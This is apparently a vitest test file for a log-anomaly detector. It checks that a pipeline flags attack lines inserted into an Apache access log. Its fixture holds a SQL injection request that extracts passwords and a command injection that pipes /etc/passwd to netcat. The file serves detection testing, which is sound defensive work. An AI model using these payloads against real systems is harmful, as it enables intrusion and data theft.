// The whole pipeline on a real log slice with attack lines added; the model is replaced by a
// deterministic trigram embedder (the real model is tested in test/embed and test/cli).

import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/pipeline/analyze.js';
import { detectAnomalies } from '../../src/pipeline/detect-anomalies.js';
import { readBaseline, writeBaseline } from '../../src/pipeline/baseline-store.js';
import { prepareScan } from '../../src/pipeline/prepare-scan.js';
import { trainBaseline } from '../../src/pipeline/train-baseline.js';
import { trigramEmbedder } from '../helpers/trigram-embedder.js';

const BACKGROUND = readFileSync(new URL('../fixtures/cli/elastic-apache-300.log', import.meta.url), 'utf8').trimEnd().split('\n');
const ATTACKS = [
  `203.0.113.9 - - [17/May/2015:10:05:40 +0000] "GET /index.php?id=1'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 500 312 "-" "sqlmap/1.7"`,
  `203.0.113.9 - - [17/May/2015:10:05:41 +0000] "GET /cgi-bin/status?host=;cat%20/etc/passwd|nc%20x%204444 HTTP/1.1" 400 226 "-" "sqlmap/1.7"`,
];

function writeLog(lines: string[]): string {
  const file = join(mkdtempSync(join(tmpdir(), 'semlog-analyze-')), 'access.log');
  writeFileSync(file, `${lines.join('\n')}\n`);
  return file;
}

describe('analyze', () => {
  const lines = [...BACKGROUND.slice(0, 150), ...ATTACKS, ...BACKGROUND.slice(150)];
  const file = writeLog(lines);

  it('maps every flagged text back to its raw lines, with reasons', async () => {
    const embedder = trigramEmbedder();
    const analysis = await analyze({ paths: [file], embedder, cacheDir: false, semantic: { eps: 0.5, minSamples: 3 } });
    expect(analysis.summary).toMatchObject({ records: 302, malformed: 0, files: 1, format: 'combined' });
    expect(embedder.embedded).toBe(analysis.summary.uniqueTexts);
    const attackLines = analysis.lines.filter((l) => l.ip === '203.0.113.9').map((l) => l.line);
    expect(attackLines.sort()).toEqual([151, 152]);
    for (const finding of analysis.lines) {
      expect(finding.file).toBe(file);
      expect(lines[finding.line - 1]).toContain(finding.ip);
      expect(finding.reasons.join(' ')).toMatch(/semantic outlier/);
      expect(finding.reasons.join(' ')).toMatch(/unusual characters|nearest normal/);
      expect(finding.outlierScore).toBeGreaterThan(0);
    }
    const sqli = analysis.lines.find((l) => l.line === 151)!;
    expect(sqli.tags).toContain('sql_injection');
    expect(sqli.text).toContain("' UNION SELECT password FROM users--");
    // Lines are ranked best first: those with attack evidence, then the others, each group by score.
    const groups = analysis.lines.map((l) => (l.attack ? 1 : 0));
    expect(groups).toEqual([...groups].sort((a, b) => b - a));
    for (const attack of [true, false]) {
      const scores = analysis.lines.filter((l) => l.attack === attack).map((l) => l.score);
      expect(scores).toEqual([...scores].sort((a, b) => b - a));
    }
  });

  it('gives the same verdicts when the lines come in another order', async () => {
    const shuffled = writeLog([...lines].reverse());
    const settings = { embedder: trigramEmbedder(), cacheDir: false as const, semantic: { eps: 0.5, minSamples: 3 } };
    const forward = await analyze({ paths: [file], ...settings });
    const backward = await analyze({ paths: [shuffled], ...settings });
    const texts = (a: typeof forward) => a.lines.map((l) => l.text).sort();
    expect(texts(backward)).toEqual(texts(forward));
  });

  it('embeds each distinct text once, also when the log repeats itself', async () => {
    const doubled = writeLog([...lines, ...lines]);
    const embedder = trigramEmbedder();
    const analysis = await analyze({ paths: [doubled], embedder, cacheDir: false });
    expect(analysis.summary.records).toBe(604);
    expect(embedder.embedded).toBe(analysis.summary.uniqueTexts);
  });

  it('serves a rescan from the embedding cache', async () => {
    const cacheDir = mkdtempSync(join(tmpdir(), 'semlog-cache-'));
    const first = trigramEmbedder();
    await analyze({ paths: [file], embedder: first, cacheDir });
    const second = trigramEmbedder();
    const rescan = await analyze({ paths: [file], embedder: second, cacheDir });
    expect(second.embedded).toBe(0);
    expect(rescan.summary.cachedTexts).toBe(rescan.summary.uniqueTexts);
  });

  it('caches no vector that is not of unit length (an embedder that does not normalize), and says so', async () => {
    const cacheDir = mkdtempSync(join(tmpdir(), 'semlog-cache-'));
    const unit = trigramEmbedder();
    const doubled = { ...unit, embed: async (texts: readonly string[]) => (await unit.embed(texts)).map((x) => 2 * x) };
    const first = await analyze({ paths: [file], embedder: doubled, cacheDir });
    expect(first.summary.warnings).toEqual([
      `embedding cache not updated for ${first.summary.uniqueTexts} texts: their vectors were not finite unit vectors (is the embedder normalizing?)`,
    ]);
    const second = trigramEmbedder();
    await analyze({ paths: [file], embedder: second, cacheDir });
    expect(second.embedded).toBe(first.summary.uniqueTexts);
  });

  it('stops with a model error (exit 4) when an embedder returns NaN, and caches nothing', async () => {
    const cacheDir = mkdtempSync(join(tmpdir(), 'semlog-cache-'));
    const unit = trigramEmbedder();
    const broken = { ...unit, embed: async (texts: readonly string[]) => (await unit.embed(texts)).fill(Number.NaN, 0, 1) };
    const error = await analyze({ paths: [file], embedder: broken, cacheDir }).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'SEMLOG_BAD_VECTORS', exitCode: 4 });
    expect((error as Error).message).toMatch(/^the embedder trigram-64 returned a vector with NaN in it \(text 1 of a batch\)$/);
    const second = trigramEmbedder();
    await analyze({ paths: [file], embedder: second, cacheDir });
    expect(second.embedded).toBeGreaterThan(0);
  });

  it('clusters one prepared scan again with other settings without embedding again', async () => {
    const embedder = trigramEmbedder();
    const prepared = await prepareScan({ paths: [file], embedder, cacheDir: false });
    const strict = detectAnomalies(prepared, { semantic: { eps: 0.2, minSamples: 10 } });
    const loose = detectAnomalies(prepared, { semantic: { eps: 0.9, minSamples: 2 } });
    expect(embedder.calls).toBeGreaterThan(0);
    expect(strict.summary.outlierTexts).toBeGreaterThan(loose.summary.outlierTexts);
  });

  it('trainBaseline of no request (an empty log, or nothing but malformed lines) is an InputError, not a baseline of nothing', async () => {
    const empty = writeLog([]);
    const garbage = writeLog(['garbage', 'more garbage']);
    await expect(trainBaseline({ paths: [empty], embedder: trigramEmbedder(), cacheDir: false })).rejects.toThrow(
      expect.objectContaining({ code: 'SEMLOG_NOTHING_TO_LEARN', exitCode: 3, message: 'no request to learn from (0 records, 0 malformed lines): no baseline was written' }),
    );
    await expect(trainBaseline({ paths: [garbage], format: 'combined', embedder: trigramEmbedder(), cacheDir: false })).rejects.toThrow(/no request to learn from \(0 records, 2 malformed lines\)/);
    // One request is enough to learn from.
    const one = await trainBaseline({ paths: [writeLog(BACKGROUND.slice(0, 1))], embedder: trigramEmbedder(), cacheDir: false });
    expect(one.meta.uniqueTexts).toBe(1);
  });

  it('judges the site and the clients while the neighbours are looked up, to the very analysis of prepareScan and detectAnomalies', async () => {
    // analyze() runs judgeSite and judgeClients while the index worker searches (prepareScanWith):
    // the options must reach them as they reach detectAnomalies, a baseline's included.
    const baselineDir = join(mkdtempSync(join(tmpdir(), 'semlog-analyze-baseline-')), 'baseline');
    writeBaseline(baselineDir, await trainBaseline({ paths: [writeLog(BACKGROUND.slice(0, 200))], embedder: trigramEmbedder(), cacheDir: false }));
    const settings = [
      {},
      { zThreshold: 2, semantic: { minRarity: 3 }, signals: { fieldNovelty: false, hostileClients: false } },
      { baselineDir },
    ];
    for (const options of settings) {
      const analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false, ...options });
      const prepared = await prepareScan({ paths: [file], embedder: trigramEmbedder(), cacheDir: false });
      const baseline = options.baselineDir === undefined ? undefined : readBaseline(options.baselineDir, prepared);
      const separately = detectAnomalies(prepared, { ...options, ...(baseline && { baseline }) });
      for (const result of [analysis, separately]) {
        delete (result.summary as Partial<typeof result.summary>).elapsedMs;
        delete (result.summary as Partial<typeof result.summary>).stageMs;
      }
      expect(analysis.lines.length).toBeGreaterThan(0);
      expect(analysis).toEqual(separately);
    }
  });

  it('leaves excluded clients out of the analysis and counts them', async () => {
    const analysis = await analyze({ paths: [file], embedder: trigramEmbedder(), cacheDir: false, scope: { exclude: ['203.0.113.0/24'] } });
    expect(analysis.summary.records).toBe(302);
    expect(analysis.lines.some((l) => l.ip === '203.0.113.9')).toBe(false);
    expect(Object.values(analysis.summary.scope.excluded).reduce((a, b) => a + b, 0)).toBe(2);
  });
});
